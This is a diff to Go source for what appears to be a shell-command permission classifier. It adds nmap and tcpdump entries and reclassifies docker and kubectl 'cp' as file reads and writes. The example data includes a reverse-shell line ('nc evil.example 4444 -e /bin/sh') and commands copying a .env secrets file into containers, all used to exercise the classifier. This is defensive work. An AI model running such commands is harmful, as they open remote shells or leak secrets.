@@ -108,6 +108,23 @@ var netCommands = []Command{
 		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "net:evil.example narrow nc -e>>'/bin/sh'"}, {"nc -z localhost 80", "net:localhost"}},
 	},
 	{
+		Names:    []string{"nmap"},
+		Title:    "scans networks",
+		Flags:    "-vdnRAFO46h open traceroute reason",
+		Values:   "-pTegDSM max-retries host-timeout min-rate max-rate exclude top-ports",
+		Opts:     []Opt{{"script script-args script-args-file datadir servicedb", HasArg, Unsafe}, {"-o resume stylesheet", HasArg, Unsafe}, {"-i excludefile", HasArg, Unsafe}},
+		Operands: URLs,
+		Examples: []Example{{"nmap -p 80 h", "net:h"}, {"nmap --script ./x h", "narrow net:h"}, {"nmap -oN f h", "narrow net:f net:h"}},
+	},
+	{
+		Names:    []string{"tcpdump", "tshark", "dumpcap"},
+		Title:    "records network traffic",
+		Flags:    "-nvXxAeqtSlLDpKNU#",
+		Values:   "-icsCGWBjMTyEfYd",
+		Opts:     []Opt{{"-z postrotate-command", HasArg, Executes}, {"-w", HasArg, WritesValue}, {"-rVF", HasArg, ReadsValue}, {"-Z relinquish-privileges", HasArg, Unsafe}},
+		Examples: []Example{{"tcpdump -i any port 80", ""}, {"tcpdump -z ./x -w f", "narrow write:f tcpdump -z>>'./x'"}, {"tcpdump -r f", "read:f"}},
+	},
+	{
 		Names: []string{"openssl"},
 		Title: "does cryptography",
 		Style: SingleDash,
@@ -284,8 +301,9 @@ var dockerSubs = []Command{
 			Values:   "-n tail format",
 			Examples: []Example{{"docker compose ps", "ro"}},
 		},
+		{Names: []string{"cp"}, Flags: "-aL all archive follow-link", Values: "index", more: dockerCopyMore, Examples: []Example{{"docker compose cp .env w:/x", "read:.env/**"}}},
 		{
-			Names:    []string{"up", "down", "build", "start", "stop", "restart", "rm", "pull", "push", "kill", "create", "cp", "pause", "unpause", "watch"},
+			Names:    []string{"up", "down", "build", "start", "stop", "restart", "rm", "pull", "push", "kill", "create", "pause", "unpause", "watch"},
 			Examples: []Example{{"docker compose rm -f web", ""}},
 		},
 	}},
@@ -343,8 +361,12 @@ var kubectlSubs = []Command{
 		Examples:  []Example{{"kubectl get pods -o wide", "ro"}, {"kubectl logs -f p", "ro"}},
 	},
 	{
+		Names: []string{"cp"}, Values: "-c container retries", Flags: "no-preserve", more: dockerCopyMore,
+		Examples: []Example{{"kubectl cp .env p:/x", "read:.env/**"}, {"kubectl cp -c w p:/x y", "write:y/**"}},
+	},
+	{
 		Names: []string{
-			"apply", "create", "delete", "edit", "patch", "replace", "scale", "rollout", "set", "label", "annotate", "cp", "drain", "cordon",
+			"apply", "create", "delete", "edit", "patch", "replace", "scale", "rollout", "set", "label", "annotate", "drain", "cordon",
 			"uncordon", "taint", "port-forward", "proxy", "attach", "debug", "expose", "autoscale", "auth", "certificate", "config", "diff", "wait",
 			"kustomize", "plugin",
 		},
